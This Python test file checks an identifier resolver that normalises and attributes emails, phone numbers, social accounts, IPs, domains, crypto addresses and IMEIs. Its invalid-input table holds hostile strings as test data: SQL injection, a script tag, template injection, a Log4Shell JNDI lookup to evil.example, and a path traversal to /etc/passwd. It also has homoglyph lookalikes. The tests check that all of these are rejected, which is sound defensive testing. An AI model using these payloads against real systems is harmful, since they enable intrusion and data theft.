"""The identifier resolver on a table of valid and hostile identifiers of every kind."""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from evidesk.knowledge.resolver import MAX_LENGTH, NOT_RECOGNISED, resolve

# (input, kind, normalized, provider, provider_country)
VALID = [
    ("supplier.billing.dept@gmail.com", "email", "supplier.billing.dept@gmail.com", "google", "US"),
    ("Supplier.Billing@GMAIL.COM", "email", "supplier.billing@gmail.com", "google", "US"),
    ("  someone@googlemail.com ", "email", "someone@googlemail.com", "google", "US"),
    ("mailto:someone@gmail.com", "email", "someone@gmail.com", "google", "US"),
    ("director.private@outlook.com", "email", "director.private@outlook.com", "microsoft", "US"),
    ("x@hotmail.com", "email", "x@hotmail.com", "microsoft", "US"),
    ("x@live.com", "email", "x@live.com", "microsoft", "US"),
    ("user@mail.ru", "email", "user@mail.ru", "mailru", "RU"),
    ("user@inbox.ru", "email", "user@inbox.ru", "mailru", "RU"),
    ("user@yandex.ru", "email", "user@yandex.ru", "yandex", "RU"),
    ("user@ya.ru", "email", "user@ya.ru", "yandex", "RU"),
    ("user@icloud.com", "email", "user@icloud.com", "apple", "US"),
    ("user@proton.me", "email", "user@proton.me", "proton", "CH"),
    ("user@yahoo.com", "email", "user@yahoo.com", "yahoo", None),
    ("contact@quietpost-relay.example", "email", "contact@quietpost-relay.example", None, None),
    ("first.last+tag@company.ge", "email", "first.last+tag@company.ge", None, None),
    ("user@пример.рф", "email", "user@xn--e1afmkfd.xn--p1ai", None, None),
    ("+995 599 12 34 56", "phone", "+995599123456", None, "GE"),
    ("+7 701 123 4567", "phone", "+77011234567", None, "KZ"),
    ("+7 (912) 345-67-89", "phone", "+79123456789", None, "RU"),
    ("+998 90 123 45 67", "phone", "+998901234567", None, "UZ"),
    ("+374 77 123456", "phone", "+37477123456", None, "AM"),
    ("+994 50 123 45 67", "phone", "+994501234567", None, "AZ"),
    ("+996 555 123 456", "phone", "+996555123456", None, "KG"),
    ("+992 93 123 4567", "phone", "+992931234567", None, "TJ"),
    ("+993 65 123456", "phone", "+99365123456", None, "TM"),
    ("00995599123456", "phone", "+995599123456", None, "GE"),
    ("tel:+12025550123", "phone", "+12025550123", None, "US"),
    ("+44 20 7946 0958", "phone", "+442079460958", None, "GB"),
    ("https://www.facebook.com/profile.php?id=100092345678901", "account",
     "https://facebook.com/profile.php?id=100092345678901", "meta", "US"),
    ("https://m.facebook.com/some.page/", "account", "https://facebook.com/some.page", "meta", "US"),
    ("instagram.com/tashkent_delivery_24", "account", "https://instagram.com/tashkent_delivery_24",
     "meta", "US"),
    ("https://www.instagram.com/anon_truth_teller_99/", "account",
     "https://instagram.com/anon_truth_teller_99", "meta", "US"),
    ("https://vk.com/club_tickets_almaty", "account", "https://vk.com/club_tickets_almaty", "vk", "RU"),
    ("t.me/somechannel", "account", "https://t.me/somechannel", "telegram", None),
    ("https://t.me/somechannel", "account", "https://t.me/somechannel", "telegram", None),
    ("https://x.com/someone", "account", "https://x.com/someone", "x", "US"),
    ("https://twitter.com/someone", "account", "https://twitter.com/someone", "x", "US"),
    ("https://www.tiktok.com/@dancer", "account", "https://tiktok.com/@dancer", "tiktok", None),
    ("https://www.youtube.com/watch?v=abc", "url", "https://youtube.com/watch?v=abc", "google", "US"),
    ("https://ok.ru/profile/123", "url", "https://ok.ru/profile/123", "ok", None),
    ("https://shop.example/cart?item=5", "url", "https://shop.example/cart?item=5", None, None),
    ("http://203.0.113.5/login.php", "url", "http://203.0.113.5/login.php", None, None),
    ("http://[2001:db8::5]:8080/x", "url", "http://[2001:db8::5]:8080/x", None, None),
    ("HTTPS://Phish.Example/Login", "url", "https://phish.example/Login", None, None),
    ("198.51.100.77", "ip", "198.51.100.77", None, None),
    ("203.0.113.18:51724", "ip", "203.0.113.18:51724", None, None),
    ("192.0.2.1:443", "ip", "192.0.2.1:443", None, None),
    ("2001:db8::1", "ip", "2001:db8::1", None, None),
    ("2001:0db8:0000:0000:0000:0000:0000:0001", "ip", "2001:db8::1", None, None),
    ("[2001:db8::1]:443", "ip", "[2001:db8::1]:443", None, None),
    ("8.8.8.8", "ip", "8.8.8.8", None, None),
    ("10.0.0.1", "ip", "10.0.0.1", None, None),
    ("quietpost-relay.example", "domain", "quietpost-relay.example", None, None),
    ("gmail.com", "domain", "gmail.com", "google", "US"),
    ("Mail.Yandex.RU", "domain", "mail.yandex.ru", "yandex", "RU"),
    ("example.co.uk", "domain", "example.co.uk", None, None),
    ("пример.рф", "domain", "xn--e1afmkfd.xn--p1ai", None, None),
    ("1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa", "crypto_address", "1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa",
     None, None),
    ("3J98t1WpEZ73CNmQviecrnyiWrnqRhWNLy", "crypto_address", "3J98t1WpEZ73CNmQviecrnyiWrnqRhWNLy",
     None, None),
    ("bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq", "crypto_address",
     "bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq", None, None),
    ("BC1QAR0SRRR7XFKVY5L643LYDNW9RE59GTZZWF5MDQ", "crypto_address",
     "bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq", None, None),
    ("bc1p5d7rjq7g6rdk2yhzks9smlaqtedr4dekq08ge8ztwac72sfr9rusxg3297", "crypto_address",
     "bc1p5d7rjq7g6rdk2yhzks9smlaqtedr4dekq08ge8ztwac72sfr9rusxg3297", None, None),
    ("TLa2f6VPqDgRE67v1736s7bJ8Ray5wYjU7", "crypto_address", "TLa2f6VPqDgRE67v1736s7bJ8Ray5wYjU7",
     None, None),
    ("0x52908400098527886E0F7030069857D2E4169EE7", "crypto_address",
     "0x52908400098527886e0f7030069857d2e4169ee7", None, None),
    ("0xde709f2102306220921060314715629080e2fb77", "crypto_address",
     "0xde709f2102306220921060314715629080e2fb77", None, None),
    ("490154203237518", "imei", "490154203237518", None, None),
    ("35-209900-176148-1", "imei", "352099001761481", None, None),
    ("35 209900 176148 1", "imei", "352099001761481", None, None),
    ("binance:uid:38219907", "provider_account", "binance:uid:38219907", "binance", None),
    ("telegram:id:123456789", "provider_account", "telegram:id:123456789", "telegram", None),
    ("instagram:uid:555", "provider_account", "meta:uid:555", "meta", "US"),
    ("kaspi:phone:+77015554433", "provider_account", "kaspi:phone:+77015554433", "kaspi", "KZ"),
]  # fmt: skip

# (input, phrase the error must contain)
INVALID = [
    ("", "empty"),
    ("   ", "empty"),
    ("x" * (MAX_LENGTH + 1), "too long"),
    ("not an identifier", "not a recognisable identifier"),
    ("'; DROP TABLE cases;--", "not a recognisable identifier"),
    ("<script>alert(1)</script>", "not a recognisable identifier"),
    ("{{7*7}}", "not a recognisable identifier"),
    ("${jndi:ldap://evil.example/a}", "not a recognisable identifier"),
    ("../../etc/passwd", "not a recognisable identifier"),
    ("user@", "not a domain name"),
    ("@", "not a recognisable identifier"),
    ("user@@gmail.com", "not a recognisable identifier"),
    ("us er@gmail.com", "not a recognisable identifier"),
    ("user@gmail", "needs a dot"),
    ("user@-bad-.com-", "not a valid domain"),
    ("a(b)@gmail.com", "not a valid mailbox"),
    ("999.1.1.1", "not a valid IP address"),
    ("256.256.256.256", "not a valid IP address"),
    ("198.51.100.7:70000", "out of range"),
    ("198.51.100.7:0", "out of range"),
    ("2001:db8:::1", "not a valid IP address"),
    ("1.2.3", "not a domain name"),
    ("490154203237519", "check digit"),
    ("1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNb", "checksum"),
    ("bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdr", "checksum"),
    ("TLa2f6VPqDgRE67v1736s7bJ8Ray5wYjU8", "checksum"),
    ("+995 12", "not a recognisable identifier"),
    ("+1 000 000 0000", "not a valid phone number"),
    ("user\x00@gmail.com", "control characters"),
    ("gmail.com\u200b", "control characters"),
    ("\u202euser@gmail.com", "control characters"),
    ("https://exa mple.com/x", "not a valid domain name"),
    ("http://[::1", "not a valid web address"),
    ("0x12345", "not a recognisable identifier"),
]


@pytest.mark.parametrize(("text", "kind", "normalized", "provider", "country"), VALID)
def test_valid_identifiers(shipped, text, kind, normalized, provider, country):
    result = resolve(text, shipped)
    assert result.error is None, result.error
    assert (result.kind, result.normalized) == (kind, normalized)
    assert result.provider == provider
    assert result.provider_country == country


@pytest.mark.parametrize(("text", "phrase"), INVALID)
def test_hostile_and_broken_identifiers_get_a_clear_error(shipped, text, phrase):
    result = resolve(text, shipped)
    assert result.error and phrase in result.error
    assert result.kind is None and result.normalized is None and result.provider is None


# Cyrillic letters U+0430 and U+0440 in place of the Latin a and p they look like.
LOOKALIKES = [
    "gm\u0430il.com",
    "user@gm\u0430il.com",
    "f\u0430cebook.com/someone",
    "\u0440\u0430ypal@gmail.com",
]


@pytest.mark.parametrize("text", LOOKALIKES)
def test_cyrillic_lookalikes_never_reach_the_real_provider_and_are_flagged(shipped, text):
    result = resolve(text, shipped)
    assert any("look-alike" in note for note in result.notes)
    if "@gmail.com" not in text:
        assert result.provider is None


def test_handles_need_a_platform(shipped):
    bare = resolve("@anon_truth_teller_99", shipped)
    assert bare.kind == "handle" and bare.provider is None
    assert any("platform" in note for note in bare.notes)
    on_instagram = resolve("@Anon_Truth_Teller_99", shipped, platform="Instagram")
    assert on_instagram.normalized == "instagram:@anon_truth_teller_99"
    assert (on_instagram.provider, on_instagram.provider_country) == ("meta", "US")
    assert resolve("@chan", shipped, platform="telegram").provider == "telegram"


def test_local_phone_numbers_use_the_requesting_country(shipped):
    assert resolve("599 12 34 56", shipped).error == NOT_RECOGNISED
    local = resolve("599 12 34 56", shipped, default_region="GE")
    assert (local.kind, local.normalized, local.provider_country) == (
        "phone",
        "+995599123456",
        "GE",
    )


def test_a_number_that_logs_in_to_a_platform_is_the_platforms_account(shipped):
    """Telegram keeps the account of a Kazakh number: the number's country is not where the
    data are, only where the number was issued."""
    login = resolve("+7 707 555 1234", shipped, platform="telegram")
    assert (login.kind, login.provider, login.provider_country) == ("phone", "telegram", None)
    assert login.details["country"] == "KZ"
    assert resolve("+7 707 555 1234", shipped).provider_country == "KZ"  # the operator's


def test_private_addresses_are_flagged_documentation_ranges_are_not(shipped):
    assert any("private" in n for n in resolve("10.0.0.1", shipped).notes)
    assert resolve("198.51.100.77", shipped).notes == []
    assert resolve("203.0.113.18:51724", shipped).details["port"] == 51724


def test_works_without_a_knowledge_base():
    result = resolve("someone@gmail.com")
    assert (result.kind, result.normalized, result.provider) == ("email", "someone@gmail.com", None)


def test_the_table_is_large_enough():
    assert len(VALID) + len(INVALID) + len(LOOKALIKES) >= 100


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=600))
def test_any_text_gives_an_answer_never_an_exception(text):
    result = resolve(text)
    assert (result.error is None) == (result.normalized is not None)
    if result.normalized is not None:
        assert result.kind is not None
